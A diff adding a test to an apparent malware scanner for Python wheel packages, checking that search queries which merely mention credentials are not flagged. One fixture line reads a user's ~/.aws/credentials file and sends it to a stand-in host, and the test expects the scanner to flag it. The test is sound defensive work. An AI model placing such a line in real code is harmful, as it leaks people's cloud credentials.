@@ -951,3 +951,22 @@ test('the token in an address that git pushes to is for a person who calls, and 
     ),
   ).toMatchObject([{ class: 'malware', score: 10 }]);
 });
+
+test('a question or a pattern that speaks of credentials is no file of them', async () => {
+  const file = (line: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import re, requests',
+        'from urllib.parse import quote_plus',
+        'def find(house):',
+        `    text = ${line}`,
+        "    return requests.get('https://search.vendor.invalid/?q=' + text).json()",
+      ),
+    });
+
+  expect(await inspect('exfiltration', file("quote_plus(f'org:{house} filename:credentials')"))).toEqual([]);
+  expect(await inspect('exfiltration', file("re.search(r'(gcloud|other)/(v|w)/(.*)', house).group(3)"))).toEqual([]);
+  expect(
+    await inspect('exfiltration', file("quote_plus(open(f'/home/{house}/.aws/credentials').read())")),
+  ).toMatchObject([{ score: 6 }]);
+});
